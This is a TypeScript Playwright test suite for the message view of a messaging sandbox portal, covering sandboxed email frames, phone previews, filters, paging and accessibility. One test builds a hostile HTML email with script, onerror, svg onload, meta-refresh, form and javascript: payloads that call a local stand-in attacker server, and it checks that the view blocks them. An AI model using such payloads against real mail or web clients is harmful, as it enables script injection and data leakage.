// The view of messages in Chromium: emails in a frame that can do nothing, messages as phones show them, filters and pages. What messages say is
// hostile.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createMessagingClient, type MessagingClient } from '@octavo/interfaces/g-messaging';
import { unwrap } from '@octavo/runtime';
import type { Browser, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { users } from '../../../services/g-messaging/seeds/credentials.ts';
import { axeFindings } from '../../support/axe.ts';
import { chromiumPath, launch } from '../../support/chromium.ts';
import { byEffort, IS_DEEP } from '../../support/effort.ts';
import { enter, structureFaults, tabFaults } from '../../support/keyboard.ts';
import { reusedPage } from '../../support/reused-page.ts';
import { type SandboxPortal, startSandboxPortal } from './setup.ts';

const LENA = 104_729;
const ORDERS = 'Orders <orders@papaver-books.example>';
const PICTURE = 'https://pictures.example/covers.png';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
/** What the messages of the seeds and of `beforeAll` say, by channel. */
const TITLES = {
  email: 'Four new books of poems',
  sms: 'Order PB-7781 is waiting',
  viber: 'Poems by candlelight',
  mobilepush: 'Vier neue Gedichtbände',
  appinbox: 'Ten per cent off',
} as const;

let portal: SandboxPortal;
let browser: Browser;
let page: Page;
let main: MessagingClient;
let faults: string[] = [];
/** The addresses that the page and its frames asked for, without those of the portal and of control. */
let outside: string[] = [];
/** An attacker's server, with what it was asked for. */
let attacker: Server;
let asked: string[] = [];

const attack = (path: string): string => `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/${path}`;
const row = (text: string) => page.locator('.log-row', { hasText: text }).first();

async function show(): Promise<void> {
  await page.goto(`${portal.url}/sandbox.html#/messages`);
  await page.locator('.log-row').first().waitFor();
}

/** Clicks, and answers for the places of pictures. A page whose requests are caught keeps no script, so it is not done before. */
async function loadPictures(): Promise<void> {
  await page.route(/^https:/, (route) => route.fulfill({ contentType: 'image/png', body: PNG }));
  await page.getByRole('button', { name: 'Load pictures' }).click();
}

async function open(text: string): Promise<void> {
  await row(text).click();
  await page.locator('.message').waitFor();
}

const email = async (subject: string, htmlText: string, more: object = {}) =>
  unwrap(await main.sendEmail({ body: { from: ORDERS, subject, htmlText, emails: ['mo.ito@example.com'], ...more } }), 200);

describe.skipIf(chromiumPath === undefined)('messages to people', { timeout: 600_000 }, () => {
  beforeAll(async () => {
    portal = await startSandboxPortal('portal-messages', ['g-messaging']);
    attacker = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end('<script>globalThis.hacked = true</script>');
    }).listen(0, '127.0.0.1');
    main = createMessagingClient({ baseUrl: portal.addressOf('g-messaging'), credentials: { basic: users.papaver } });
    const viber = { from: 'Papaver Books', text: 'Poems by candlelight, on Friday at eight.', imageUrl: PICTURE };
    const button = { buttonName: 'Keep a seat', buttonUrl: 'https://papaver-books.example/readings' };
    unwrap(await main.sendViber({ body: { ...viber, ...button, phoneNumbers: ['491713920042'] } }), 200);
    unwrap(await main.sendPreparedMessage({ body: { id: 2422, recipients: [{ contactId: LENA }] } }), 200);
    browser = await launch();
  }, 600_000);

  afterAll(async () => {
    await browser?.close();
    await portal?.close();
    attacker?.close();
  });

  const reused = reusedPage(
    () => browser,
    async (started) => {
      started.on('pageerror', (error) => faults.push(error.message));
      const own = [portal.url, new URL(portal.control()?.url ?? '').origin];
      const note = (request: Request) => {
        const url = request.url();
        // What a policy forbids is named, and not sent.
        const isSent = !/csp/i.test(request.failure()?.errorText ?? '');
        if (isSent && !url.startsWith('data:') && !own.some((origin) => url.startsWith(origin))) outside.push(url);
      };
      started.on('requestfinished', note);
      started.on('requestfailed', note);
    },
  );
  beforeEach(async () => {
    page = await reused.fresh();
    faults = [];
    outside = [];
    asked = [];
  });

  test('an email is shown in a frame without any permission, beside what happened to it', async () => {
    await show();
    await open(TITLES.email);
    const frame = page.getByTitle(`Email: ${TITLES.email}`);
    expect(await frame.getAttribute('sandbox')).toBe('');
    expect(await frame.getAttribute('srcdoc')).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
    await page.frameLocator('.mail-frame').getByText('the leaves are falling').waitFor();
    expect(await page.locator('.mail-head').innerText()).toContain('"Papaver Books" <letters@papaver-books.example>');
    expect(await page.locator('.history .badge').allTextContents()).toEqual(['sent', 'delivered', 'read', 'clicked']);
    expect(await page.locator('.history').innerText()).toContain('https://papaver-books.example/books/sea-glass');
    expect(outside).toEqual([]);
    expect(faults).toEqual([]);
  });

  test('the parts of an email are tabs, and the styles of its HTML are its own', async () => {
    await email('Both parts', '<style>p { color: rgb(1, 2, 3) }</style><p>As HTML</p>', { plainText: 'As text' });
    await show();
    await open('Both parts');
    const paragraph = page.frameLocator('.mail-frame').getByText('As HTML');
    expect(await paragraph.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
    await page.getByRole('tab', { name: 'Text' }).click();
    await page.getByRole('tabpanel', { name: 'Text' }).getByText('As text').waitFor();
    await page.getByRole('tab', { name: 'HTML' }).click();
    expect(await page.getByRole('region', { name: 'HTML of the email' }).innerText()).toContain('<p>As HTML</p>');
    expect(faults).toEqual([]);
  });

  test('an email that is an attack runs nothing, loads nothing, leads nowhere and sends nothing', async () => {
    const evil = `<script>parent.document.title = 'hacked'; fetch('${attack('script')}')</script>
      <meta http-equiv="refresh" content="0; url=${attack('refresh')}"><base href="${attack('base/')}" target="_top">
      <link rel="stylesheet" href="${attack('style')}"><link rel="preconnect" href="${attack('')}">
      <style>@import '${attack('import')}'; body { background: url(${attack('background')}) } @font-face { font-family: f; src: url(${attack('font')}) }</style>
      <img src="${attack('picture')}" onerror="fetch('${attack('onerror')}')"><img src="${PICTURE}" width="90000" height="90000">
      <img src="relative.png"><iframe src="${attack('frame')}"></iframe><object data="${attack('object')}"></object><embed src="${attack('embed')}">
      <svg onload="fetch('${attack('svg')}')"><image href="${attack('image')}"/></svg><video src="${attack('video')}" autoplay></video>
      <div><template shadowrootmode="open"><link rel="stylesheet" href="${attack('shadow')}"></template></div>
      <form action="${attack('form')}" target="_top"><input name="a" value="b"><button>Send</button></form>
      <p><a href="${attack('top')}" target="_top">To the top</a> <a href="${attack('self')}">Here</a> <a href="javascript:fetch('/')">Run</a></p>
      </body></html><p>The end</p>`;
    const subject = '<img src=x onerror="globalThis.hacked = 1">&lt;b&gt;';
    await email(subject, evil);
    await show();
    await open(subject);
    const frame = page.frameLocator('.mail-frame');
    await frame.getByText('The end').waitFor();
    for (const name of ['To the top', 'Here', 'Run']) await frame.getByText(name).click();
    await frame.getByRole('button', { name: 'Send' }).click();
    // Time for what should not come.
    await page.waitForTimeout(1_500);
    await frame.getByText('The end').waitFor();
    expect(await page.locator('.mail-subject').innerText()).toBe(subject);
    expect(await page.evaluate(() => [document.title, (globalThis as { hacked?: unknown }).hacked])).toEqual([
      expect.not.stringContaining('hacked'),
      undefined,
    ]);
    expect(page.url()).toBe(`${portal.url}/sandbox.html#/messages`);
    expect(page.context().pages()).toHaveLength(1);
    expect([asked, outside]).toEqual([[], []]);
    const excess = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(excess).toBe(0);

    await loadPictures();
    await expect.poll(() => outside).toEqual([PICTURE]);
    await page.waitForTimeout(500);
    expect([asked, outside]).toEqual([[], [PICTURE]]);
    expect(faults).toEqual([]);
  });

  test('links of a message are listed with their addresses, without those that are no links of the web', async () => {
    const links =
      '<a href="https://papaver-books.example/a">The <b>books</b></a> <a href="javascript:alert(1)">Run</a> <a href="data:text/html,x">Data</a>';
    await email('With links', links);
    await show();
    await open('With links');
    const list = page.locator('.message-links li');
    expect(await list.count()).toBe(1);
    expect(await list.innerText()).toMatch(/^The books: https?:\/\//);
    const link = list.getByRole('link');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test('a phone shows a message of each channel', async () => {
    const phones = [
      ['sms', 'SMS as a phone shows it', ['PapaverBks', 'Order PB-7781 is waiting']],
      ['viber', 'Viber as a phone shows it', ['Papaver Books', 'Poems by candlelight', 'Keep a seat', 'Picture from pictures.example']],
      ['mobilepush', 'Mobile push as a phone shows it', ['Vier neue Gedichtbände', 'In der App zum Blättern.']],
      ['appinbox', 'App Inbox as a phone shows it', ['Inbox', 'Ten per cent off', 'For any book of poems until December.']],
    ] as const;
    await show();
    for (const [channel, name, words] of phones) {
      await open(TITLES[channel]);
      const shown = await page.getByRole('figure', { name }).innerText();
      for (const word of words) expect(shown).toContain(word);
    }
    expect([faults, outside]).toEqual([[], []]);
  });

  // No contact of the seeds has a chat, and no message goes to browsers.
  test.each([
    ['telegram', 'Telegram as a phone shows it', ['Papaver Books', 'Poems by candlelight', 'Keep a seat'], 'light'],
    ['webpush', 'Web push as a phone shows it', ['Papaver Books', 'Poems by candlelight', 'now', 'Keep a seat'], 'dark'],
  ] as const)('a phone shows a message of %s, in each theme', async (channel, name, words, theme) => {
    await page.route(/\/v1\/messages[/?]/, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replaceAll('"viber"', `"${channel}"`) });
    });
    await show();
    await open(TITLES.viber);
    const phone = page.getByRole('figure', { name });
    for (const word of words) expect(await phone.innerText()).toContain(word);
    for (const colorScheme of byEffort({ quick: [theme], deep: ['light', 'dark'] as const })) {
      await page.emulateMedia({ colorScheme });
      await page.waitForTimeout(300);
      expect(await axeFindings(page)).toEqual([]);
    }
    expect(faults).toEqual([]);
  });

  test('the picture of a message comes when it is asked for, by https alone', async () => {
    const viber = { from: 'Papaver Books', phoneNumbers: ['491713920042'] as [string] };
    unwrap(
      await main.sendViber({ body: { ...viber, text: 'Plain <script>globalThis.hacked = 1</script>', imageUrl: attack('viber') } }),
      200,
    );
    await show();
    await open('Plain <script>');
    await page.getByText('A picture that does not come by https is not shown.').waitFor();
    expect(await page.getByRole('button', { name: 'Load pictures' }).count()).toBe(0);
    await open(TITLES.viber);
    expect(outside).toEqual([]);
    await loadPictures();
    await page.getByRole('img', { name: "The message's own" }).waitFor();
    expect([asked, outside]).toEqual([[], [PICTURE]]);
    expect(await page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined();
    expect(faults).toEqual([]);
  });

  test('filters leave what fits them, and a message leads to all about its contact', async () => {
    await show();
    await page.getByLabel('Channel').selectOption('appinbox');
    await expect.poll(() => page.locator('.log > li').count()).toBe(1);
    await open(TITLES.appinbox);
    await page.getByRole('button', { name: 'Only messages about this contact' }).click();
    await row(TITLES.email).waitFor();
    expect(await page.getByLabel('About').inputValue()).toBe(String(LENA));
    expect(await page.locator('.log').innerText()).not.toContain('mo.ito@example.com');
    await page.getByLabel('Text').fill('BLÄTTERN');
    await page.getByText('No message fits these filters.').waitFor();
    await page.getByLabel('Text').fill('zum blättern');
    await expect.poll(() => page.locator('.log > li').count()).toBe(1);
    expect(faults).toEqual([]);
  });

  test('older messages are on further pages', async () => {
    for (let number = 0; number < 31; number++)
      unwrap(await main.sendSms({ body: { from: 'PapaverBks', text: `Number ${number}.`, phoneNumbers: ['491713920042'] } }), 200);
    await show();
    await row('Number 30.').waitFor();
    expect(await page.locator('.log > li').count()).toBe(30);
    expect(await page.getByRole('button', { name: 'Newer' }).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Older' }).click();
    await row('Number 0.').waitFor();
    await page.getByText('Page 2').waitFor();
    await page.getByRole('button', { name: 'Newer' }).click();
    await row('Number 30.').waitFor();
    expect(faults).toEqual([]);
  });

  test('without messages, and when control fails, the view says so', async () => {
    const list = /\/v1\/messages\?/;
    await page.route(list, async (route) => route.fulfill({ response: await route.fetch(), json: { messages: [] } }));
    await page.goto(`${portal.url}/sandbox.html#/messages`);
    await page.getByText('No message yet.').waitFor();
    expect(await axeFindings(page)).toEqual([]);
    await page.unroute(list);
    await page.route(list, (route) => route.abort());
    await page.getByRole('alert').getByText('The sandbox does not answer.').waitFor();
    await page.unroute(list);
    await page.locator('.log-row').first().waitFor();
    expect(await page.getByRole('alert').count()).toBe(0);
  });

  const looks = [
    ['light', 1280],
    ['dark', 320],
  ] as const;
  test.each(looks)('axe finds nothing in the %s theme at %i pixels, and no message is wider than the page', async (colorScheme, width) => {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize({ width, height: 900 });
    await show();
    const found: string[] = [];
    for (const [index, channel] of (Object.keys(TITLES) as (keyof typeof TITLES)[]).entries()) {
      // A quick run looks at each channel in one of the two themes.
      if (!IS_DEEP && index % 2 !== (colorScheme === 'light' ? 0 : 1)) continue;
      await page.getByLabel('Text').fill(TITLES[channel]);
      await expect.poll(() => page.locator('.log > li').count()).toBe(1);
      await open(TITLES[channel]);
      found.push(...(await axeFindings(page)).map((finding) => `${channel}: ${finding}`));
      found.push(...(await structureFaults(page)).map((fault) => `${channel}: ${fault}`));
      const excess = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      if (excess > 0) found.push(`${channel} is ${excess} pixels too wide`);
    }
    expect(found).toEqual([]);
  });

  test('the keyboard opens a message, and goes through its frame and out of it', async () => {
    await show();
    await page.getByLabel('Text').fill(TITLES.email);
    await expect.poll(() => page.locator('.log > li').count()).toBe(1);
    await enter(page, row(TITLES.email));
    await page.frameLocator('.mail-frame').getByText('the leaves are falling').waitFor();
    expect(await tabFaults(page)).toEqual([]);
  });

  test.runIf(IS_DEEP)('forced colours and a zoom of 400 % keep the words of a phone', async () => {
    await page.emulateMedia({ forcedColors: 'active' });
    await page.setViewportSize({ width: 320, height: 256 });
    await show();
    // Earlier tests have sent more than a page.
    await page.getByLabel('Text').fill(TITLES.viber);
    await open(TITLES.viber);
    expect(await page.getByRole('figure').innerText()).toContain('Keep a seat');
  });
});
